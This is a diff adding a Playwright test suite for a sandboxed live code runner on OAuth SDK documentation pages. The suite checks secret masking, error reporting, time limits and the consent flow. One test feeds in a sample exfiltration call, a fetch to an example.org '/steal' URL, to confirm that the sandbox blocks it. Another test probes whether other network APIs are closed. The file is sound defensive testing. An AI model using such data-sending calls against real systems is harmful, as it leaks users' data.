@@ -1,0 +1,403 @@
+import { expect, test, type RunnerPage } from './runnerPage';
+
+/** A short client credentials snippet, and the page it is on. */
+const fetchToken = { page: '/docs/client-credentials', id: 'client-credentials/fetch-token' };
+const ropc = { page: '/docs/resource-owner-password', id: 'resource-owner-password/fetch-token' };
+const authorizationCode = {
+  page: '/docs/authorization-code',
+  id: 'authorization-code/exchange-code',
+};
+
+async function open(
+  {
+    site,
+    runnerFor,
+  }: { site: { goto(path: string): Promise<void> }; runnerFor: (id: string) => RunnerPage },
+  where: { page: string; id: string },
+): Promise<RunnerPage> {
+  await site.goto(where.page);
+  const runner = runnerFor(where.id);
+  await runner.chooseTypeScript();
+  return runner;
+}
+
+const ropcClient = `import { Client } from 'sdk';
+
+const client = new Client({
+  resourceOwnerAuthCredentials: {
+    oAuthClientId: 'OAuthClientId',
+    oAuthClientSecret: 'OAuthClientSecret',
+    oAuthUsername: 'OAuthUsername',
+    oAuthPassword: 'OAuthPassword',
+  },
+});`;
+
+test.describe('the live runner', () => {
+  // Runs start workers and wait for the page; the machine may be shared and busy.
+  test.describe.configure({ timeout: 60_000 });
+  test('runs the snippet: console output, and each HTTP exchange in the inspector', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished in/);
+    expect(await runner.consoleLines()).toContain('Expires in: 3600 s');
+    await expect(runner.http.getByRole('listitem')).toHaveCount(1);
+    await expect(runner.http).toContainText('POST https://auth.example.com/oauth2/token');
+    await expect(runner.http).toContainText('200 OK');
+  });
+
+  test('masks the client secret, the password, Basic credentials and tokens in the inspector', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, ropc);
+    await runner.replaceCode(
+      `${ropcClient}\nconst token = await client.resourceOwnerAuthManager!.fetchToken();\nconsole.log(token.accessToken, token.refreshToken);`,
+    );
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    const [accessToken, refreshToken] = (await runner.consoleLines())[0]!.split(' ');
+    expect(accessToken?.length).toBeGreaterThan(8);
+
+    const exchange = runner.http.getByRole('listitem').first();
+    await exchange.locator('summary').click();
+    const shown = await exchange.innerText();
+    expect(shown).toContain('grant_type');
+    expect(shown).toContain('OAuthUsername');
+    expect(shown).toContain('••••••');
+    for (const secret of [
+      'OAuthPassword',
+      'OAuthClientSecret',
+      Buffer.from('OAuthClientId:OAuthClientSecret').toString('base64'),
+      accessToken!,
+      refreshToken!,
+    ]) {
+      expect(shown, `the inspector shows ${secret}`).not.toContain(secret);
+    }
+  });
+
+  test('edit and run: the edited code runs', async ({ site, runnerFor }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("console.log('edited', 6 * 7);");
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual(['edited 42']);
+  });
+
+  test('an edit survives a failed run, a language switch and a reload; Reset restores the original', async ({
+    site,
+    runnerFor,
+    page,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    const original = await runner.figure
+      .getByRole('tabpanel')
+      .filter({ visible: true })
+      .locator('pre')
+      .first()
+      .innerText();
+    const edited = "console.log('before');\nthrow new RangeError('on purpose');";
+    await runner.replaceCode(edited);
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Failed after .*: RangeError on line 2: on purpose/);
+    expect(await runner.editorText()).toBe(edited);
+
+    await runner.figure.getByRole('tab', { name: 'Python', exact: true }).click();
+    await runner.chooseTypeScript();
+    expect(await runner.editorText()).toBe(edited);
+
+    await page.reload();
+    await page.locator('html[data-hydrated]').waitFor({ state: 'attached' });
+    await expect(runner.editor).toBeVisible();
+    expect(await runner.editorText()).toBe(edited);
+
+    await runner.button('Reset').click();
+    await expect(runner.editor).toBeHidden();
+    await expect(runner.button('Edit')).toBeFocused();
+    await runner.button('Edit').click();
+    expect((await runner.editorText()).trim()).toBe(original.trim());
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+  });
+
+  test('a syntax error shows its line and column, and nothing runs', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("console.log('this must not print');\nconst broken = (;\n");
+    await runner.run();
+    expect(await runner.waitForEnd()).toBe(
+      'Syntax error on line 2, column 17: Unexpected token. Nothing ran.',
+    );
+    await expect(runner.output.getByLabel('Where the syntax error is')).toContainText(
+      '> 2 | const broken = (;',
+    );
+    expect(await runner.consoleLines()).toEqual([]);
+    await expect(runner.output).toContainText('HTTP traffic (0 exchanges)');
+    // The next run works.
+    await runner.replaceCode("console.log('fixed');");
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual(['fixed']);
+  });
+
+  test('a request to a real host fails with the URL named, and never leaves the page', async ({
+    site,
+    runnerFor,
+    page,
+  }) => {
+    const outside: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().startsWith('http://127.0.0.1')) outside.push(request.url());
+    });
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("const response = await fetch('https://www.example.org/steal?x=1');");
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(
+      /^Failed after .*: SandboxNetworkError on line 1: GET https:\/\/www\.example\.org\/steal\?x=1 was blocked: the sandbox has no network access/,
+    );
+    await expect(runner.http).toContainText('GET https://www.example.org/steal?x=1 blocked');
+    expect(outside).toEqual([]);
+  });
+
+  test('network and storage APIs other than fetch are closed to the code', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode(
+      [
+        "for (const name of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker']) {",
+        '  try {',
+        '    new (globalThis as any)[name]("https://www.example.org/");',
+        '    console.log(`${name}: open`);',
+        '  } catch (error) {',
+        '    console.log(`${name}: closed`);',
+        '  }',
+        '}',
+        "try { (globalThis as any).importScripts('https://www.example.org/x.js'); console.log('importScripts: open'); } catch { console.log('importScripts: closed'); }",
+        "try { (globalThis as any).indexedDB.open('x'); console.log('indexedDB: open'); } catch { console.log('indexedDB: closed'); }",
+        'console.log(`page storage: ${typeof (globalThis as any).sessionStorage}`);',
+      ].join('\n'),
+    );
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual([
+      'XMLHttpRequest: closed',
+      'WebSocket: closed',
+      'EventSource: closed',
+      'Worker: closed',
+      'importScripts: closed',
+      'indexedDB: closed',
+      'page storage: undefined',
+    ]);
+  });
+
+  test('Stop ends an endless loop at once, the page stays responsive, and the next run works', async ({
+    site,
+    runnerFor,
+    page,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("console.log('looping');\nwhile (true) {}");
+    await runner.run();
+    await expect(runner.console).toContainText('looping');
+    // The page is not frozen: a tab switch elsewhere on the page still works.
+    const other = page.locator('figure[data-snippet-id]').nth(0);
+    await other.getByRole('tab', { name: 'Go', exact: true }).click();
+    await other.getByRole('tab', { name: 'TypeScript', exact: true }).click();
+    await runner.button('Stop').click();
+    expect(await runner.waitForEnd()).toBe('Stopped.');
+    await runner.replaceCode("console.log('after stop');");
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual(['after stop']);
+  });
+
+  test('a run past the time limit is stopped with a message', async ({ site, runnerFor }) => {
+    test.setTimeout(60_000);
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode('await new Promise(() => {});');
+    await runner.run();
+    expect(await runner.waitForEnd(30_000)).toMatch(/^Stopped after 15 s: the run took too long/);
+  });
+
+  test('a million console lines: the first thousand are shown, the rest counted', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("for (let i = 0; i < 1_000_000; i++) console.log('line', i);");
+    await runner.run();
+    expect(await runner.waitForEnd(30_000)).toMatch(/^Finished/);
+    const lines = await runner.consoleLines();
+    expect(lines).toHaveLength(1000);
+    expect(lines.at(-1)).toBe('line 999');
+    await expect(runner.output).toContainText('999,000 more lines not shown');
+  });
+
+  test('an unhandled rejection is reported and the next run works', async ({ site, runnerFor }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode(
+      "Promise.reject(new TypeError('nobody awaits me'));\nawait new Promise((resolve) => setTimeout(resolve, 50));\nconsole.log('done');",
+    );
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual([
+      'Unhandled promise rejection: TypeError: nobody awaits me (line 1)',
+      'done',
+    ]);
+  });
+
+  test('a wrong client secret fails with the OAuth error code', async ({ site, runnerFor }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode(
+      "import { Client } from 'sdk';\nconst client = new Client({ clientCredentialsAuthCredentials: { oAuthClientId: 'OAuthClientId', oAuthClientSecret: 'wrong' } });\nawait client.clientCredentialsAuthManager!.fetchToken();",
+    );
+    await runner.run();
+    expect(await runner.waitForEnd()).toMatch(
+      /^Failed after .*: OAuthProviderError \(invalid_client\) on line 3/,
+    );
+    await expect(runner.http).toContainText('401 Unauthorized');
+  });
+
+  test('advancing the clock during a run expires the token, and the refresh shows in the inspector', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, ropc);
+    await runner.replaceCode(
+      `${ropcClient}
+await client.itemsController.listItems();
+console.log('Waiting for the clock');
+while (!client.resourceOwnerAuthManager!.isTokenExpired()) {
+  await new Promise((resolve) => setTimeout(resolve, 50));
+}
+const { statusCode } = await client.itemsController.listItems();
+console.log(\`Called again: \${statusCode}\`);`,
+    );
+    await runner.run();
+    await expect(runner.console).toContainText('Waiting for the clock');
+    await runner.button('+1 h').click();
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toContain('Called again: 200');
+    const items = runner.http.getByRole('listitem');
+    await expect(items.filter({ hasText: /^Clock advanced by 1 h/ })).toHaveCount(1);
+    // Token (password grant), API, clock note, token (refresh grant), API.
+    await expect(items).toHaveCount(5);
+    const refresh = items.nth(3);
+    await refresh.locator('summary').click();
+    await expect(refresh).toContainText('POST https://auth.example.com/oauth2/token');
+    await expect(refresh).toContainText(/grant_type\s*:?\s*refresh_token/);
+  });
+
+  test('the consent screen: Deny sends the reader back with access_denied', async ({
+    site,
+    runnerFor,
+  }) => {
+    const runner = await open({ site, runnerFor }, authorizationCode);
+    await runner.replaceCode(
+      `import { Client, OAuthScopeEnum } from 'sdk';
+import { browser } from 'sandbox';
+
+const client = new Client({
+  authorizationCodeAuthCredentials: {
+    oAuthClientId: 'OAuthClientId',
+    oAuthClientSecret: 'OAuthClientSecret',
+    oAuthRedirectUri: 'https://example.com/oauth/callback',
+    oAuthScopes: [OAuthScopeEnum.ReadScope],
+  },
+});
+const callback = await browser.authorize(client.authorizationCodeAuthManager!.buildAuthorizationUrl('s1'));
+console.log(\`error=\${callback.searchParams.get('error')} state=\${callback.searchParams.get('state')}\`);`,
+    );
+    await runner.run();
+    const consent = runner.output.getByRole('group', { name: /^Authorize / });
+    await expect(consent).toBeVisible();
+    await expect(consent).toContainText('read');
+    await expect(consent).toContainText('https://example.com/oauth/callback');
+    await expect(runner.status).toHaveText('Waiting for your answer on the consent screen…');
+    // Keyboard: focus is on the consent screen; Tab reaches the buttons.
+    await runner.button('Deny').focus();
+    await runner.page.keyboard.press('Enter');
+    expect(await runner.waitForEnd()).toMatch(/^Finished/);
+    expect(await runner.consoleLines()).toEqual(['error=access_denied state=s1']);
+    await expect(runner.http).toContainText('You denied the consent request.');
+    await expect(runner.http).toContainText(
+      'POST https://auth.example.com/oauth2/authorize 302 Found',
+    );
+  });
+
+  test('reloading the page during a run causes no errors and keeps the edit', async ({
+    site,
+    runnerFor,
+    page,
+  }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    const code =
+      "console.log('long run');\nawait new Promise((resolve) => setTimeout(resolve, 10_000));";
+    await runner.replaceCode(code);
+    await runner.run();
+    await expect(runner.console).toContainText('long run');
+    await page.reload();
+    await page.locator('html[data-hydrated]').waitFor({ state: 'attached' });
+    await expect(runner.editor).toBeVisible();
+    expect(await runner.editorText()).toBe(code);
+  });
+
+  test('the first load of a page carries none of the runner; intent loads it', async ({ page }) => {
+    const scripts: string[] = [];
+    page.on('request', (request) => {
+      if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname);
+    });
+    await page.goto(fetchToken.page);
+    await page.locator('html[data-hydrated]').waitFor({ state: 'attached' });
+    await page.waitForLoadState('networkidle');
+    expect(scripts.filter((path) => /live-runner/.test(path))).toEqual([]);
+    const figure = page.locator(`figure[data-snippet-id="${fetchToken.id}"]`);
+    await figure.getByRole('tab', { name: 'TypeScript', exact: true }).click();
+    await expect.poll(() => scripts.some((path) => /live-runner\./.test(path))).toBe(true);
+  });
+
+  test('a warm run prints its first line quickly', async ({ site, runnerFor, page }) => {
+    const runner = await open({ site, runnerFor }, fetchToken);
+    await runner.replaceCode("console.log('first');");
+    const timeToFirstLine = async () => {
+      await runner.button('Run').hover();
+      // Wait for the spare worker to have booted (the cold part).
+      await page.waitForTimeout(1500);
+      return page.evaluate(
+        (id) =>
+          new Promise<number>((resolve) => {
+            const figure = document.querySelector(`figure[data-snippet-id="${id}"]`)!;
+            const button = [...figure.querySelectorAll('button')].find(
+              (b) => b.textContent === 'Run',
+            )!;
+            const started = performance.now();
+            const observer = new MutationObserver(() => {
+              const log = figure.querySelector('[role="log"]');
+              if (log?.textContent?.includes('first')) {
+                observer.disconnect();
+                resolve(performance.now() - started);
+              }
+            });
+            observer.observe(figure, { childList: true, subtree: true, characterData: true });
+            button.click();
+          }),
+        fetchToken.id,
+      );
+    };
+    await timeToFirstLine();
+    await runner.waitForEnd();
+    const warm = await timeToFirstLine();
+    test.info().annotations.push({
+      type: 'warm run → first console line',
+      description: `${warm.toFixed(1)} ms`,
+    });
+    // Budget 50 ms; the margin absorbs a shared, busy CI machine.
+    expect(warm).toBeLessThan(150);
+  });
+});
